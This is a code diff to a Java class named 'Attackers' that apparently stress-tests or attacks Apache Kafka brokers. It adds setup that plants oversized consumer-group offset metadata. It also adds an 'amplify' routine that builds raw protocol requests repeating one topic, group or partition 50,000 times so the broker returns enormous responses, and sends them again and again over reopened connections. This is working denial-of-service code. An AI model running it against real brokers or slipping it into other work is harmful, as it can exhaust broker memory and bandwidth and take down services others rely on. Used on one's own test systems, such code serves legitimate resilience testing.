@@ -8,29 +8,40 @@ import java.net.StandardSocketOptions;
 import java.nio.ByteBuffer;
 import java.nio.channels.SocketChannel;
 import java.util.ArrayList;
+import java.util.Collections;
 import java.util.List;
 import java.util.Map;
 import java.util.Random;
 import java.util.function.BooleanSupplier;
+import java.util.stream.Collectors;
 import java.util.stream.IntStream;
+import java.util.stream.Stream;
 import org.apache.kafka.clients.admin.Admin;
 import org.apache.kafka.clients.admin.NewTopic;
+import org.apache.kafka.clients.consumer.OffsetAndMetadata;
 import org.apache.kafka.clients.producer.KafkaProducer;
 import org.apache.kafka.clients.producer.ProducerRecord;
+import org.apache.kafka.common.TopicPartition;
 import org.apache.kafka.common.message.ApiVersionsRequestData;
+import org.apache.kafka.common.message.ConsumerGroupDescribeRequestData;
 import org.apache.kafka.common.message.ConsumerGroupHeartbeatRequestData;
 import org.apache.kafka.common.message.CreatePartitionsRequestData;
 import org.apache.kafka.common.message.CreatePartitionsRequestData.CreatePartitionsTopic;
 import org.apache.kafka.common.message.CreateTopicsRequestData;
 import org.apache.kafka.common.message.CreateTopicsRequestData.CreatableTopic;
 import org.apache.kafka.common.message.DeleteTopicsRequestData;
+import org.apache.kafka.common.message.DescribeConfigsRequestData;
+import org.apache.kafka.common.message.DescribeGroupsRequestData;
+import org.apache.kafka.common.message.DescribeTopicPartitionsRequestData;
 import org.apache.kafka.common.message.FetchRequestData;
 import org.apache.kafka.common.message.JoinGroupRequestData;
 import org.apache.kafka.common.message.JoinGroupRequestData.JoinGroupRequestProtocol;
+import org.apache.kafka.common.message.ListOffsetsRequestData;
 import org.apache.kafka.common.message.MetadataRequestData;
 import org.apache.kafka.common.message.OffsetCommitRequestData;
 import org.apache.kafka.common.message.OffsetCommitRequestData.OffsetCommitRequestPartition;
 import org.apache.kafka.common.message.OffsetCommitRequestData.OffsetCommitRequestTopic;
+import org.apache.kafka.common.message.OffsetFetchRequestData;
 import org.apache.kafka.common.protocol.ApiKeys;
 import org.apache.kafka.common.protocol.ApiMessage;
 import org.apache.kafka.common.serialization.ByteArraySerializer;
@@ -39,6 +50,7 @@ import org.apache.kafka.common.serialization.ByteArraySerializer;
 /// Connections that the broker closes are opened again.
 final class Attackers {
     static final String LARGE = "large-events";
+    private static final String VICTIM = "large-group";
     private static final int LARGE_RECORDS = 9;
     private static final int LARGE_PARTITIONS = 100;
     private static final int MEGABYTE = 1 << 20;
@@ -91,6 +103,10 @@ final class Attackers {
             for (int i = 0; i < LARGE_RECORDS; i++) {
                 producer.send(new ProducerRecord<>(LARGE, 0, null, new byte[1_000_000])).get();
             }
+            producer.send(new ProducerRecord<>(LARGE, 1, null, new byte[10])).get();
+            admin.alterConsumerGroupOffsets(VICTIM, IntStream.range(0, LARGE_PARTITIONS).boxed().collect(
+                    Collectors.toMap(number -> new TopicPartition(LARGE, number),
+                            number -> new OffsetAndMetadata(0, "x".repeat(4_000))))).all().get();
         }
     }
 
@@ -195,6 +211,40 @@ final class Attackers {
             }
         }
         return requests;
+    }
+
+    /// Names a topic, a group or a partition that exists 50,000 times in one request, so that the response would have
+    /// as many copies of what the broker knows of it.
+    void amplify() {
+        List<byte[]> requests = amplified(50_000);
+        var random = new Random();
+        again(socket -> {
+            socket.setSoTimeout(20_000);
+            socket.getOutputStream().write(requests.get(random.nextInt(requests.size())));
+            skipAnswer(socket);
+        });
+    }
+
+    private static List<byte[]> amplified(int times) {
+        var configs = new DescribeConfigsRequestData().setIncludeSynonyms(true).setIncludeDocumentation(true)
+                .setResources(Collections.nCopies(times, new DescribeConfigsRequestData.DescribeConfigsResource()
+                        .setResourceType((byte) 2).setResourceName(LARGE).setConfigurationKeys(null)));
+        var offsets = new OffsetFetchRequestData().setGroups(Collections.nCopies(times,
+                new OffsetFetchRequestData.OffsetFetchRequestGroup().setGroupId(VICTIM).setTopics(null)));
+        var fetch = new FetchRequestData().setMaxBytes(Integer.MAX_VALUE).setTopics(List.of(
+                new FetchRequestData.FetchTopic().setTopic(LARGE).setPartitions(Collections.nCopies(times,
+                        new FetchRequestData.FetchPartition().setPartition(1).setPartitionMaxBytes(1_000)))));
+        var list = new ListOffsetsRequestData().setReplicaId(-1).setTopics(List.of(
+                new ListOffsetsRequestData.ListOffsetsTopic().setName(LARGE).setPartitions(Collections.nCopies(times,
+                        new ListOffsetsRequestData.ListOffsetsPartition().setTimestamp(1)))));
+        List<String> group = Collections.nCopies(times, VICTIM);
+        List<String> topic = Collections.nCopies(times, LARGE);
+        return Stream.of(Wire.frame(configs, 4, 1), Wire.frame(offsets, 8, 1), Wire.frame(fetch, 12, 1),
+                Wire.frame(list, 6, 1), Wire.frame(new DescribeGroupsRequestData().setGroups(group), 5, 1),
+                Wire.frame(new ConsumerGroupDescribeRequestData().setGroupIds(group), 1, 1),
+                Wire.frame(new DescribeTopicPartitionsRequestData().setTopics(topic.stream().map(name ->
+                        new DescribeTopicPartitionsRequestData.TopicRequest().setName(name)).toList()), 0, 1))
+                .map(Attackers::sized).toList();
     }
 
     /// The kinds of requests with arrays that a broker reads into objects.
